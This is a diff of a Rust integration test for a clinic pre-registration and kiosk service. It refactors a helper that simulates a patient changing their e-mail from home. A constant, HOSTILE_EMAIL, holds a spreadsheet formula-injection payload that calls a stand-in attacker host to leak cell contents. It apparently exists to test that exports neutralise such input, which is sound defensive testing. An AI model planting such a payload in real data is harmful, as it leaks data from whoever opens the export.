@@ -4,7 +4,7 @@
 
 mod common;
 
-use arrive_domain::api::{KioskAppointment, PreRegistrationLink};
+use arrive_domain::api::KioskAppointment;
 use common::*;
 use reqwest::{Client, StatusCode};
 use serde_json::json;
@@ -15,23 +15,11 @@ const HOSTILE_EMAIL: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")@exam
 
 /// The patient `name`, from home with the link the desk gave out, changes their e-mail.
 async fn save_email_from_home(staff: &Client, base: &str, name: &str, dob: &str, email: &str) {
-    let row = board_row(staff, base, name).await;
-    let link: PreRegistrationLink = staff
-        .post(format!("{base}/api/v1/desk/appointments/{}/pre-registration", row.id))
-        .send()
-        .await
-        .unwrap()
-        .json()
-        .await
-        .unwrap();
-    let token = link.link.rsplit_once("/pre/").unwrap().1.to_owned();
+    // Each visit its own idempotency key.
+    let key = format!("{:032x}", board_row(staff, base, name).await.id);
+    let token = token_of(&link_for(staff, base, name).await);
     let home = Client::new();
-    let unlocked = post(
-        &home,
-        &format!("{base}/api/v1/pre/unlock"),
-        json!({"token": token, "date_of_birth": dob}),
-    )
-    .await;
+    let unlocked = unlock(base, &token, dob).await;
     assert_eq!(unlocked.status(), StatusCode::OK);
     let appointment: KioskAppointment = unlocked.json().await.unwrap();
     let mut verification = nothing_changed();
@@ -39,7 +27,7 @@ async fn save_email_from_home(staff: &Client, base: &str, name: &str, dob: &str,
     let finished = post(
         &home,
         &format!("{base}/api/v1/pre/finish"),
-        json!({"match_token": appointment.match_token, "idempotency_key": format!("{:032x}", row.id),
+        json!({"match_token": appointment.match_token, "idempotency_key": key,
             "verification": verification}),
     )
     .await;
